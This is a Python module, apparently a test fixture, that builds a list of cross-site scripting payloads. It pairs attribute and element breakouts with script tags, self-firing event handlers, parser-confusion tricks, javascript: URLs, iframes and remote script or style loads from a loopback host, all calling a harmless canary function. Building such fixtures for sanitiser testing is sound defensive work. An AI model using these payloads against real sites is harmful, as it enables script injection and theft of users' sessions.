"""Texts that would be scripts wherever a text becomes markup."""

RUN = "canary()"
# What stands before: nothing, the end of an attribute in either kind of quotes, the end of an element that holds text.
BREAKOUTS = ("", '">', "'>", "</textarea>")
VECTORS = (
    # elements that run, or load and then run
    f"<script>{RUN}</script>",
    f"<ScRiPt x>{RUN}</sCrIpT >",
    f"</script><script>{RUN}//",
    "<base href=//127.0.0.9/><script src=/a.js></script>",
    "<script type=module src=//127.0.0.9/a.js></script>",
    # handlers that need nobody's hand
    f"<img src=x onerror={RUN}>",
    f"<img/src/onerror={RUN}//",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<task-row onclick={RUN} tabindex=0 autofocus onfocus={RUN}>",
    f'" autofocus onfocus="{RUN}" onmouseover="{RUN}',
    # what another parser reads in another way
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext></form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"&lt;img src=x onerror={RUN}&gt;&#60;svg/onload={RUN}&#62;",
    # documents within
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    # addresses
    f"javascript:{RUN}",
    f"[a](javascript:{RUN})",
    f"<a href=' javascript:{RUN}' autofocus onfocus={RUN}>a</a>",
    f"<form action=javascript:{RUN}><button autofocus formaction=javascript:{RUN}>",
    # templates, strings in scripts, styles
    "{{constructor.constructor('" + RUN + "')()}}${" + RUN + "}",
    f"'-{RUN}-'\\\";{RUN}//",
    "<style>@import'//127.0.0.9/a';*{background:url(//127.0.0.9/b)}</style>",
)
PAYLOADS = [breakout + vector for vector in VECTORS for breakout in BREAKOUTS]
